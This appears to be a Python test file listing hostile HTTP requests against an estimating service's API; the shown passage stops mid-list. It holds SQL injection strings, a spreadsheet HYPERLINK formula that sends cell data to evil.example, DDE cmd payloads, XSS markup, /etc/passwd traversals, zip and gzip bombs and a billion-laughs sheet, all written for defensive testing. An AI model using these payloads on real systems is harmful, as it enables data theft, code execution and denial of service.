"""The hostile corpus: what a careless or malicious client sends, as a table of named requests.

Each `Case` is (name, method, path, headers, body, expect). `expect` is the set of statuses a correct
service may answer; every status of 400 and above must come as the error envelope. Most cases expect a
4xx. Some are hostile but VALID (a formula or markup in a customer's name): those expect 201 or 200,
and test_hostile.py checks that they are rendered harmlessly. Where refusing and accepting are both
right (an emoji in a name), both are listed; a 5xx never is.

Placeholders, filled in when a case is sent: `{admin}`, `{estimator}`, `{viewer}` in header values
(that role's API key) and `{quote}` in paths (the id of a quote made before the corpus runs). A body is
the exact bytes sent, a zero-argument function that builds them (big uploads are built once, on first
use, not at import), a `Chunked` body (sent with Transfer-Encoding: chunked, no Content-Length), or None.
"""

from __future__ import annotations

import copy
import functools
import gzip
import io
import json
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any, NamedTuple

import xlsxwriter

from kis_estimator.catalog_io import load_catalog
from kis_estimator.documents.request_sheet import TEMPLATE_PATH
from kis_estimator.pricebooks import catalog_rows, render_price_book
from tests.documents.test_request_sheet import (
    BILLION_LAUGHS,
    SHEET_XML,
    _hundred_thousand_rows,
    _replace_member,
    _sheet_xml,
    _text_cell,
)
from tests.factories import DOMAIN_S8

MB = 1024 * 1024
BOUNDARY = "kis-hostile-7d3f0a5c9e21"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Chunked:
    """A body sent in chunks without a Content-Length (Transfer-Encoding: chunked)."""

    data: Callable[[], bytes]
    chunk_bytes: int = 64 * 1024

    def chunks(self) -> Iterator[bytes]:
        data = self.data()
        for start in range(0, len(data), self.chunk_bytes):
            yield data[start : start + self.chunk_bytes]


Body = bytes | Callable[[], bytes] | Chunked | None


class Case(NamedTuple):
    name: str
    method: str
    path: str
    headers: Mapping[str, str]
    body: Body
    expect: frozenset[int]


# ------------------------------------------------------------------------------------ building blocks

ADMIN = {"Authorization": "Bearer {admin}"}
ESTIMATOR = {"Authorization": "Bearer {estimator}"}
VIEWER = {"Authorization": "Bearer {viewer}"}
JSON_AS = {**ESTIMATOR, "Content-Type": "application/json"}
JSON_ADMIN = {**ADMIN, "Content-Type": "application/json"}
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"

MALFORMED = frozenset({400})
UNAUTHORIZED = frozenset({401})
FORBIDDEN = frozenset({403})
NOT_FOUND = frozenset({404})
NOT_ALLOWED = frozenset({405})
TOO_LARGE = frozenset({413})
INVALID = frozenset({422})
MALFORMED_OR_INVALID = frozenset({400, 422})
NOT_FOUND_OR_INVALID = frozenset({404, 422})
CREATED = frozenset({201})
OK = frozenset({200})
OK_OR_INVALID = frozenset({200, 422})
CREATED_OR_INVALID = frozenset({201, 422})  # a name the documents cannot print: refuse it, or print it
CREATED_OR_TAKEN = frozenset({201, 409})  # a template name: made once, then taken (the corpus runs again)


def js(value: Any) -> bytes:
    """JSON bytes, ASCII only, so that lone surrogates and control characters travel as escapes."""
    return json.dumps(value, ensure_ascii=True).encode("ascii")


def request_with(**changes: Any) -> dict[str, Any]:
    """The DOMAIN §8 request with fields replaced, by `__`-separated path: panels__0__main__poles=-4."""
    request = copy.deepcopy(DOMAIN_S8)
    for dotted, value in changes.items():
        *parents, last = dotted.split("__")
        node: Any = request
        for part in parents:
            node = node[int(part)] if part.isdigit() else node.setdefault(part, {})
        node[int(last) if last.isdigit() else last] = value
    return request


def estimate(**changes: Any) -> bytes:
    return js(request_with(**changes))


def proposal(options: Any = ({"brand": "LS"}, {"brand": "SANGDO"}), **changes: Any) -> bytes:
    """A proposal body: the DOMAIN §8 request (fields replaced as in request_with) and `options`."""
    return js({"request": request_with(**changes), "options": list(options)})


def multipart(filename: str, data: bytes, media_type: str = XLSX, **fields: str) -> bytes:
    """A multipart/form-data body with one `file` part (the filename sent as given) and text fields."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    head = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        f"Content-Type: {media_type}\r\n\r\n"
    ).encode()
    return b"".join([*parts, head, data, f"\r\n--{BOUNDARY}--\r\n".encode()])


def upload(
    filename: str, data: Callable[[], bytes], media_type: str = XLSX, **fields: str
) -> Callable[[], bytes]:
    return functools.cache(lambda: multipart(filename, data(), media_type, **fields))


def nested(depth: int) -> bytes:
    return b'{"customer": ' + b"[" * depth + b"]" * depth + b"}"


def draft(request: Any) -> bytes:
    """The body of POST/PUT /v1/drafts holding `request`."""
    return js({"request": request})


def draft_nested(depth: int) -> bytes:
    return b'{"request": {"customer": ' + b"[" * depth + b"]" * depth + b"}}"


# ------------------------------------------------------------------------------------- hostile files


@functools.cache
def shipped_price_book(format: str = "xlsx") -> bytes:
    return render_price_book(catalog_rows(load_catalog()), format)  # type: ignore[arg-type]


@functools.cache
def price_book_with_an_rtl_override() -> bytes:
    rows = catalog_rows(load_catalog())
    rows["accessories"][0]["line_name"] = RTL  # shown reversed in the catalog screen: "exe.jpg"
    return render_price_book(rows, "xlsx")


@functools.cache
def sheet_zip_bomb() -> bytes:
    """The request-sheet template whose worksheet inflates to 60 MB (about 60 KB on the wire)."""
    return _replace_member(TEMPLATE_PATH.read_bytes(), SHEET_XML, _sheet_xml([" " * (60 * MB)]), level=9)


@functools.cache
def sheet_of_100000_rows() -> bytes:
    return _hundred_thousand_rows()


@functools.cache
def sheet_billion_laughs() -> bytes:
    laughs = _sheet_xml([f'<row r="3">{_text_cell("A3", "&lol9;")}</row>'], BILLION_LAUGHS)
    return _replace_member(TEMPLATE_PATH.read_bytes(), SHEET_XML, laughs)


@functools.cache
def price_book_zip_bomb() -> bytes:
    """A price-book zip whose breakers.csv inflates to 200 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("breakers.csv", b"model,price_krw\n" + b" " * (200 * MB))
        archive.writestr("enclosures.csv", b"model\n")
        archive.writestr("accessories.csv", b"model\n")
    return out.getvalue()


@functools.cache
def price_book_of_100000_rows() -> bytes:
    """The shipped book as a zip, its breakers.csv grown to 100,000 data rows (a few MB compressed)."""
    shipped = zipfile.ZipFile(io.BytesIO(shipped_price_book("zip")))
    lines = shipped.read("breakers.csv").decode("utf-8").splitlines()
    grown = "\n".join([lines[0], *(lines[1 + n % (len(lines) - 1)] for n in range(100_000))]) + "\n"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in shipped.namelist():
            archive.writestr(member, grown if member == "breakers.csv" else shipped.read(member))
    return out.getvalue()


@functools.cache
def customer_list_of_100000_rows() -> bytes:
    """A customer list of 100,000 customers named by number (xlsxwriter declares the sheet's <dimension>;
    numbers keep the shared strings, parsed whole, small)."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["상호", "담당자"])
    for row in range(1, 100_001):
        sheet.write_row(row, 0, [row, "김과장"])
    book.close()
    return out.getvalue()


def workbook_of_2000_members() -> bytes:
    """A workbook-looking zip of 2,000 empty members, over the archive's member limit."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        for number in range(2_000):
            archive.writestr(f"xl/worksheets/sheet{number}.xml", b"")
    return out.getvalue()


def legacy_workbook() -> bytes:
    """The OLE2 signature of a legacy .xls (or of any password-protected workbook)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


def eleven_megabytes() -> bytes:
    return b"PK\x03\x04" + bytes(11 * MB)


def six_megabytes() -> bytes:
    return b"PK\x03\x04" + bytes(6 * MB)


@functools.cache
def gzip_bomb() -> bytes:
    """100 MB of JSON whitespace, gzipped to about 100 KB: harmful only if the server inflated it."""
    return gzip.compress(b"{" + b" " * (100 * MB) + b"}", compresslevel=9)


@functools.cache
def ten_megabyte_name() -> bytes:
    return estimate(customer__name="x" * (10 * MB))


# ------------------------------------------------------------------------------------------ strings

SQL = "'; DROP TABLE estimator.quotes; --"
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"클릭")'
DDE = "+cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_FORMULA = "-2+3+cmd|' /C calc'!A0"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
SVG_BREAKOUT = ']]></text></svg><svg onload="alert(3)"><text>'
PATH = "../../etc/passwd"
RTL = "invoice\u202egpj.exe"
DXF_GROUPS = "LP-1\n0\nEOF\n  0\nSECTION"

# ---------------------------------------------------------------------------------------- the table

CASES: list[Case] = [
    # --- a body that is not the request JSON ---------------------------------------------------------
    Case("json: not JSON at all", "POST", "/v1/estimate", JSON_AS, b"customer=x&brand=LS", MALFORMED),
    Case("json: truncated", "POST", "/v1/estimate", JSON_AS, js(DOMAIN_S8)[:-7], MALFORMED),
    Case("json: empty body", "POST", "/v1/estimate", JSON_AS, b"", MALFORMED_OR_INVALID),
    Case("json: null", "POST", "/v1/estimate", JSON_AS, b"null", INVALID),
    Case("json: an array", "POST", "/v1/estimate", JSON_AS, b"[1, 2, 3]", INVALID),
    Case("json: a string", "POST", "/v1/estimate", JSON_AS, b'"estimate please"', INVALID),
    Case("json: 1e999 (infinity)", "POST", "/v1/estimate", JSON_AS, b"1e999", INVALID),
    Case("json: invalid UTF-8", "POST", "/v1/estimate", JSON_AS, b'{"customer": {"name": "\xff\xfe\xc0"}}', MALFORMED),
    Case("json: Latin-1 bytes declared as charset", "POST", "/v1/estimate", {**ESTIMATOR, "Content-Type": "application/json; charset=latin-1"}, '{"customer": {"name": "Müller"}}'.encode("latin-1"), MALFORMED),
    Case("json: NaN thickness", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__enclosure__thickness_mm=float("nan")), INVALID),
    Case("json: Infinity load", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__branches__0__load_a=float("inf")), INVALID),
    Case("json: 5,000-digit integer", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__main__trip_at=0).replace(b'"trip_at": 0', b'"trip_at": ' + b"9" * 5000), MALFORMED_OR_INVALID),
    Case("json: nested 100,000 deep", "POST", "/v1/estimate", JSON_AS, nested(100_000), MALFORMED),
    Case("json: nested 900 deep in a field", "POST", "/v1/estimate", JSON_AS, nested(900), INVALID),
    Case("json: nested 900 deep, with an Idempotency-Key", "POST", "/v1/estimate", {**JSON_AS, "Idempotency-Key": "deep-900"}, nested(900), INVALID),
    Case("json: duplicate keys, the last one bad", "POST", "/v1/estimate", JSON_AS, b'{"brand": "LS", "brand": "ACME", "customer": {"name": "x"}, "panels": []}', INVALID),
    Case("json: unknown top-level field", "POST", "/v1/estimate", JSON_AS, js({**DOMAIN_S8, "discount_pct": 99}), INVALID),
    Case("json: unknown nested field", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__main__color="gold"), INVALID),
    Case("json: __proto__ field", "POST", "/v1/estimate", JSON_AS, js({**DOMAIN_S8, "__proto__": {"admin": True}}), INVALID),
    # --- wrong types ----------------------------------------------------------------------------------
    Case("type: customer is a string", "POST", "/v1/estimate", JSON_AS, estimate(customer="동양기전"), INVALID),
    Case("type: panels is an object", "POST", "/v1/estimate", JSON_AS, estimate(panels={"name": "LP-1"}), INVALID),
    Case("type: poles is a word", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__main__poles="four"), INVALID),
    Case("type: trip_at is a list", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__main__trip_at=[200]), INVALID),
    Case("type: qty is a fraction", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__branches__0__qty=2.5), INVALID),
    Case("type: brand is an object", "POST", "/v1/estimate", JSON_AS, estimate(brand={"$ne": None}), INVALID),
    Case("type: no panels", "POST", "/v1/estimate", JSON_AS, estimate(panels=[]), INVALID),
    Case("type: size_mm with two numbers", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__enclosure__kind="CUSTOM", panels__0__enclosure__size_mm=[700, 1200]), INVALID),
    Case("type: blank customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name="   "), INVALID),
    # --- negative and huge numbers --------------------------------------------------------------------
    Case("number: poles -4", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__main__poles=-4), INVALID),
    Case("number: trip_at 0", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__main__trip_at=0), INVALID),
    Case("number: trip_at 10^30", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__main__trip_at=10**30), INVALID),
    Case("number: panel quantity 10^18", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__quantity=10**18), INVALID),
    Case("number: panel quantity -1", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__quantity=-1), INVALID),
    Case("number: branch qty 2^63", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__branches__0__qty=2**63), INVALID),
    Case("number: frame 10^12 AF", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__main__frame_af=10**12), INVALID),
    Case("number: enclosure 10^9 mm", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__enclosure__kind="CUSTOM", panels__0__enclosure__size_mm=[10**9] * 3), INVALID),
    Case("number: enclosure -1 mm", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__enclosure__kind="CUSTOM", panels__0__enclosure__size_mm=[-1, -1, -1]), INVALID),
    Case("number: thickness 1e308 mm", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__enclosure__thickness_mm=1e308), INVALID),
    Case("number: accessory price -1", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__accessories=[{"kind": "METER", "unit_price": -1}]), INVALID),
    Case("number: extra line price 10^15", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__extra_lines=[{"name": "명판", "qty": 1, "unit_price": 10**15}]), INVALID),
    Case("number: 1,000 panels", "POST", "/v1/estimate", JSON_AS, estimate(panels=[DOMAIN_S8["panels"][0]] * 1000), INVALID),
    Case("number: 1,001 branch lines", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__branches=[{"poles": 2, "trip_at": 20, "qty": 1}] * 1001), INVALID),
    Case("number: a total beyond 10^15 won", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__extra_lines=[{"name": "x", "qty": 100_000, "unit_price": 10**9}] * 20), INVALID),
    # --- big strings ----------------------------------------------------------------------------------
    Case("size: a 10 MB customer name", "POST", "/v1/estimate", JSON_AS, ten_megabyte_name, TOO_LARGE),
    Case("size: a 900 KB customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name="x" * 900_000), INVALID),
    Case("size: 2 MB chunked, no Content-Length", "POST", "/v1/estimate", JSON_AS, Chunked(lambda: b'{"customer": "' + b"x" * (2 * MB) + b'"}'), TOO_LARGE),
    Case("size: a 201-character panel name", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__name="P" * 201), INVALID),
    # --- characters the documents may not be able to print ----------------------------------------------
    Case("text: NUL in the customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name="동양\u0000기전"), CREATED_OR_INVALID),
    Case("text: lone surrogate in the customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name="\ud800동양"), INVALID),
    Case("text: BEL control character in the project", "POST", "/v1/estimate", JSON_AS, estimate(project="신축\u0007공장"), CREATED_OR_INVALID),
    Case("text: a tab in the customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name="동양\t기전"), CREATED_OR_INVALID),
    Case("text: an emoji in the customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name="동양기전 😀"), CREATED_OR_INVALID),
    Case("text: RTL override in the panel name", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__name=RTL), CREATED_OR_INVALID),
    Case("text: Arabic customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name="شركة النور"), CREATED_OR_INVALID),
    # --- injection strings in a valid request: accepted, stored and rendered as text -------------------
    Case("valid: SQL in the customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name=SQL), CREATED),
    Case("valid: =HYPERLINK formula as the customer name", "POST", "/v1/estimate", JSON_AS, estimate(customer__name=FORMULA), CREATED),
    Case("valid: DDE +cmd| as the project", "POST", "/v1/estimate", JSON_AS, estimate(project=DDE), CREATED),
    Case("valid: @ and - formulas in an extra line", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__extra_lines=[{"name": AT_FORMULA, "spec": MINUS_FORMULA, "qty": 1, "unit_price": 1000}]), CREATED),
    Case("valid: script markup as the panel name", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__name=MARKUP), CREATED),
    Case("valid: SVG break-out as the panel name", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__name=SVG_BREAKOUT), CREATED),
    Case("valid: ../../etc/passwd as the panel name", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__name=PATH), CREATED),
    Case("valid: a 200-character panel name", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__name="분" * 200), CREATED),
    Case("valid: DXF group codes in the panel name", "POST", "/v1/estimate", JSON_AS, estimate(panels__0__name=DXF_GROUPS), CREATED),
    # --- ids, paths and queries -----------------------------------------------------------------------
    Case("path: SQL as the quote id", "GET", "/v1/estimate/'%20OR%201=1%20--", ESTIMATOR, None, NOT_FOUND),
    Case("path: ../ encoded in the quote id", "GET", "/v1/estimate/..%2F..%2Fetc%2Fpasswd", ESTIMATOR, None, NOT_FOUND),
    Case("path: NUL as the quote id", "GET", "/v1/estimate/%00", ESTIMATOR, None, NOT_FOUND),
    Case("path: a 10,000-character quote id", "GET", "/v1/estimate/" + "7" * 10_000, ESTIMATOR, None, NOT_FOUND),
    Case("path: NUL id, its events", "GET", "/v1/estimate/%00/events", ESTIMATOR, None, NOT_FOUND),
    Case("path: NUL id, its evidence", "GET", "/v1/estimate/%00/evidence", ESTIMATOR, None, NOT_FOUND),
    Case("path: NUL id, a document", "GET", "/v1/estimate/%00/documents/xlsx", ESTIMATOR, None, NOT_FOUND),
    Case("path: NUL id, the stream by query", "GET", "/v1/estimate/stream?quoteId=%00", ESTIMATOR, None, NOT_FOUND),
    Case("path: NUL id, a status change", "PATCH", "/v1/estimate/%00", JSON_AS, js({"status": "sent"}), NOT_FOUND),
    Case("path: NUL id, a revision", "POST", "/v1/estimate/%00/revise", JSON_AS, js(DOMAIN_S8), NOT_FOUND),
    Case("path: document kind ../../etc/passwd", "GET", "/v1/estimate/{quote}/documents/..%2F..%2Fetc%2Fpasswd", ESTIMATOR, None, NOT_FOUND_OR_INVALID),
    Case("path: unsigned blob ../", "GET", "/v1/blobs/..%2F..%2Fetc%2Fpasswd?expires=9999999999&sig=" + "0" * 64, {}, None, frozenset({403})),
    Case("path: static ../", "GET", "/static/..%2F..%2F..%2Fetc%2Fpasswd", {}, None, NOT_FOUND),
    Case("path: no such route", "GET", "/v1/estimate/{quote}/shell", ESTIMATOR, None, NOT_FOUND),
    Case("query: SQL in q", "GET", "/v1/estimate?q=%27%20OR%20%271%27%3D%271", ESTIMATOR, None, OK),
    Case("query: LIKE wildcards in q", "GET", "/v1/estimate?q=%25_%25", ESTIMATOR, None, OK),
    Case("query: NUL in q", "GET", "/v1/estimate?q=%00", ESTIMATOR, None, OK_OR_INVALID),
    Case("query: NUL in customer", "GET", "/v1/estimate?customer=a%00b", ESTIMATOR, None, OK_OR_INVALID),
    Case("query: page 10^20", "GET", "/v1/estimate?page=100000000000000000000", ESTIMATOR, None, INVALID),
    Case("query: size -1", "GET", "/v1/estimate?size=-1", ESTIMATOR, None, INVALID),
    Case("query: date 2026-13-45", "GET", "/v1/estimate?date_from=2026-13-45", ESTIMATOR, None, INVALID),
    Case("query: status injection", "GET", "/v1/estimate?status=draft%27%20OR%20%271%27%3D%271", ESTIMATOR, None, INVALID),
    Case("query: 10 KB q", "GET", "/v1/estimate?q=" + "q" * 10_000, ESTIMATOR, None, INVALID),
    Case("query: sort injection", "GET", "/v1/estimate?sort=total%3B%20DROP%20TABLE%20x", VIEWER, None, INVALID),
    Case("query: sort by a column not offered", "GET", "/v1/estimate?sort=request", VIEWER, None, INVALID),
    Case("query: export with SQL in q", "GET", "/v1/estimate/export.xlsx?q=%27%20OR%20%271%27%3D%271", VIEWER, None, OK),
    Case("query: export with NUL in q", "GET", "/v1/estimate/export.xlsx?q=%00", VIEWER, None, OK_OR_INVALID),
    Case("query: export sort injection", "GET", "/v1/estimate/export.xlsx?sort=-total%27--", VIEWER, None, INVALID),
    Case("query: export a 10 KB customer", "GET", "/v1/estimate/export.xlsx?customer=" + "c" * 10_000, VIEWER, None, INVALID),
    Case("query: export date 2026-02-30", "GET", "/v1/estimate/export.xlsx?date_from=2026-02-30", VIEWER, None, INVALID),
    Case("query: catalog kind ../keys", "GET", "/v1/catalog/..%2Fkeys", ESTIMATOR, None, NOT_FOUND_OR_INVALID),
    Case("query: SQL in the catalog search", "GET", "/v1/catalog/breakers?q=%27%3B%20DROP%20TABLE%20x%3B--", VIEWER, None, OK),
    # --- other bodies -----------------------------------------------------------------------------------
    Case("body: status change to a made-up status", "PATCH", "/v1/estimate/{quote}", JSON_AS, js({"status": "paid'; --"}), INVALID),
    Case("body: status change with an extra field", "PATCH", "/v1/estimate/{quote}", JSON_AS, js({"status": "sent", "total": 0}), INVALID),
    Case("body: export a NUL quote id", "POST", "/v1/documents/export", JSON_AS, js({"quoteId": "\u0000"}), NOT_FOUND),
    Case("body: export kind ../../etc/passwd", "POST", "/v1/documents/export", JSON_AS, js({"quoteId": "x", "kinds": [PATH]}), INVALID),
    Case("body: a key with role root", "POST", "/v1/keys", JSON_ADMIN, js({"name": "x", "role": "root"}), INVALID),
    Case("body: a key named with NUL", "POST", "/v1/keys", JSON_ADMIN, js({"name": "a\u0000b", "role": "viewer"}), CREATED_OR_INVALID),
    Case("body: catalog rows with a made-up column", "POST", "/v1/catalog/items", JSON_ADMIN, js({"kind": "breaker", "rows": [{"model": "ABN-204", "price_krw; DROP": 1}]}), INVALID),
    Case("body: catalog row price 10^30", "POST", "/v1/catalog/items", JSON_ADMIN, js({"kind": "breaker", "rows": [{"model": "ABN-204", "price_krw": 10**30}]}), INVALID),
    # --- headers ------------------------------------------------------------------------------------------
    Case("auth: no key", "POST", "/v1/estimate", {"Content-Type": "application/json"}, js(DOMAIN_S8), UNAUTHORIZED),
    Case("auth: Basic credentials", "GET", "/v1/me", {"Authorization": "Basic YWRtaW46YWRtaW4="}, None, UNAUTHORIZED),
    Case("auth: an 8 KB bearer token", "GET", "/v1/me", {"Authorization": "Bearer " + "k" * 8192}, None, UNAUTHORIZED),
    Case("auth: SQL as the bearer token", "GET", "/v1/me", {"Authorization": "Bearer ' OR '1'='1"}, None, UNAUTHORIZED),
    Case("auth: export without a key", "GET", "/v1/estimate/export.xlsx", {}, None, UNAUTHORIZED),
    Case("auth: a viewer creates", "POST", "/v1/estimate", {**VIEWER, "Content-Type": "application/json"}, js(DOMAIN_S8), FORBIDDEN),
    Case("header: Idempotency-Key of 150 characters", "POST", "/v1/estimate", {**JSON_AS, "Idempotency-Key": "k" * 150}, js(DOMAIN_S8), MALFORMED_OR_INVALID),
    Case("header: Idempotency-Key of 8 KB", "POST", "/v1/estimate", {**JSON_AS, "Idempotency-Key": "k" * 8192}, js(DOMAIN_S8), MALFORMED_OR_INVALID),
    Case("header: Idempotency-Key with a tab", "POST", "/v1/estimate", {**JSON_AS, "Idempotency-Key": "order\t1"}, js(DOMAIN_S8), MALFORMED_OR_INVALID),
    Case("header: Content-Type text/plain", "POST", "/v1/estimate", {**ESTIMATOR, "Content-Type": "text/plain"}, js(DOMAIN_S8), frozenset({415, 422})),
    Case("header: Content-Type form-urlencoded", "POST", "/v1/estimate", {**ESTIMATOR, "Content-Type": "application/x-www-form-urlencoded"}, b"customer=x", frozenset({415, 422})),
    Case("header: Content-Type multipart on JSON", "POST", "/v1/estimate", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("r.json", lambda: js(DOMAIN_S8), "application/json"), frozenset({415, 422})),
    Case("header: gzip body, Content-Encoding gzip", "POST", "/v1/estimate", {**JSON_AS, "Content-Encoding": "gzip"}, gzip.compress(js(DOMAIN_S8)), frozenset({400, 415})),
    Case("header: gzip bomb, Content-Encoding gzip", "POST", "/v1/estimate", {**JSON_AS, "Content-Encoding": "gzip"}, gzip_bomb, frozenset({400, 415})),
    Case("header: event stream asked, body an array", "POST", "/v1/estimate", {**JSON_AS, "Accept": "text/event-stream"}, b"[]", INVALID),
    Case("header: Last-Event-ID of 30 digits", "GET", "/v1/estimate/{quote}/events", {**ESTIMATOR, "Last-Event-ID": "9" * 30}, None, INVALID),
    Case("header: Last-Event-ID a superscript two", "GET", "/v1/estimate/{quote}/events", {**ESTIMATOR, "Last-Event-ID": "²"}, None, MALFORMED),
    Case("header: Last-Event-ID of 19 digits", "GET", "/v1/estimate/{quote}/events", {**ESTIMATOR, "Last-Event-ID": "9" * 19}, None, MALFORMED),
    Case("method: DELETE the collection", "DELETE", "/v1/estimate", ESTIMATOR, None, NOT_ALLOWED),
    Case("method: TRACE", "TRACE", "/v1/estimate", ESTIMATOR, None, NOT_ALLOWED),
    Case("method: PUT a quote", "PUT", "/v1/estimate/{quote}", JSON_AS, js(DOMAIN_S8), NOT_ALLOWED),
    # --- the live preview: the create's body limit and refusals, nothing stored -----------------------
    Case("preview: not JSON at all", "POST", "/v1/estimate/preview", JSON_AS, b"customer=x&brand=LS", MALFORMED),
    Case("preview: nested 100,000 deep", "POST", "/v1/estimate/preview", JSON_AS, nested(100_000), MALFORMED),
    Case("preview: an array", "POST", "/v1/estimate/preview", JSON_AS, b"[1, 2, 3]", INVALID),
    Case("preview: NaN thickness", "POST", "/v1/estimate/preview", JSON_AS, estimate(panels__0__enclosure__thickness_mm=float("nan")), INVALID),
    Case("preview: branch qty 2^63", "POST", "/v1/estimate/preview", JSON_AS, estimate(panels__0__branches__0__qty=2**63), INVALID),
    Case("preview: 1,001 branch lines", "POST", "/v1/estimate/preview", JSON_AS, estimate(panels__0__branches=[{"poles": 2, "trip_at": 20, "qty": 1}] * 1001), INVALID),
    Case("preview: a total beyond 10^15 won", "POST", "/v1/estimate/preview", JSON_AS, estimate(panels__0__extra_lines=[{"name": "x", "qty": 100_000, "unit_price": 10**9}] * 20), INVALID),
    Case("preview: a 10 MB customer name", "POST", "/v1/estimate/preview", JSON_AS, ten_megabyte_name, TOO_LARGE),
    Case("preview: 2 MB chunked, no Content-Length", "POST", "/v1/estimate/preview", JSON_AS, Chunked(lambda: b'{"customer": "' + b"x" * (2 * MB) + b'"}'), TOO_LARGE),
    Case("preview: NUL in the customer name", "POST", "/v1/estimate/preview", JSON_AS, estimate(customer__name="동양\u0000기전"), OK_OR_INVALID),
    Case("preview: SQL in the customer name", "POST", "/v1/estimate/preview", JSON_AS, estimate(customer__name=SQL), OK),
    Case("preview: no key", "POST", "/v1/estimate/preview", {"Content-Type": "application/json"}, js(DOMAIN_S8), UNAUTHORIZED),
    Case("preview: a viewer previews", "POST", "/v1/estimate/preview", {**VIEWER, "Content-Type": "application/json"}, js(DOMAIN_S8), FORBIDDEN),
    Case("preview: GET", "GET", "/v1/estimate/preview", ESTIMATOR, None, NOT_FOUND),

    # --- drafts, copies, templates and suggestions (issue 16) ---------------------------------------------
    Case("draft: nested 100,000 deep", "POST", "/v1/drafts", JSON_AS, draft_nested(100_000), MALFORMED),
    Case("draft: nested 40 deep", "POST", "/v1/drafts", JSON_AS, draft_nested(40), INVALID),
    Case("draft: the request is an array", "POST", "/v1/drafts", JSON_AS, js({"request": [DOMAIN_S8]}), INVALID),
    Case("draft: the request is null", "POST", "/v1/drafts", JSON_AS, b'{"request": null}', INVALID),
    Case("draft: an unknown field beside the request", "POST", "/v1/drafts", JSON_AS, js({"request": {}, "owner": "key:1"}), INVALID),
    Case("draft: lone surrogate in the customer name", "POST", "/v1/drafts", JSON_AS, draft(request_with(customer__name="\ud800동양")), INVALID),
    Case("draft: a 600 KB request, over DRAFT_MAX_BYTES", "POST", "/v1/drafts", JSON_AS, draft(request_with(customer__name="x" * 600_000)), TOO_LARGE),
    Case("draft: a 10 MB request, over the body limit", "POST", "/v1/drafts", JSON_AS, lambda: draft(request_with(customer__name="x" * (10 * MB))), TOO_LARGE),
    Case("draft: NUL in the customer name", "POST", "/v1/drafts", JSON_AS, draft(request_with(customer__name="동양\u0000기전")), CREATED),
    Case("draft: SQL as the customer name", "POST", "/v1/drafts", JSON_AS, draft(request_with(customer__name=SQL)), CREATED),
    Case("draft: a customer name that is a number", "POST", "/v1/drafts", JSON_AS, draft({"customer": {"name": 7}, "panels": "many"}), CREATED),
    Case("draft: NUL as the draft id", "GET", "/v1/drafts/%00", ESTIMATOR, None, NOT_FOUND),
    Case("draft: SQL as the draft id", "GET", "/v1/drafts/'%20OR%201=1%20--", ESTIMATOR, None, NOT_FOUND),
    Case("draft: a 10,000-character draft id", "GET", "/v1/drafts/" + "7" * 10_000, ESTIMATOR, None, NOT_FOUND),
    Case("draft: save over a NUL id", "PUT", "/v1/drafts/%00", {**JSON_AS, "If-Match": "*"}, draft({}), NOT_FOUND),
    Case("draft: save without If-Match", "PUT", "/v1/drafts/%00", JSON_AS, draft({}), frozenset({428})),
    Case("draft: If-Match a word", "PUT", "/v1/drafts/%00", {**JSON_AS, "If-Match": "latest"}, draft({}), MALFORMED),
    Case("draft: If-Match of 30 digits", "PUT", "/v1/drafts/%00", {**JSON_AS, "If-Match": '"' + "9" * 30 + '"'}, draft({}), MALFORMED),
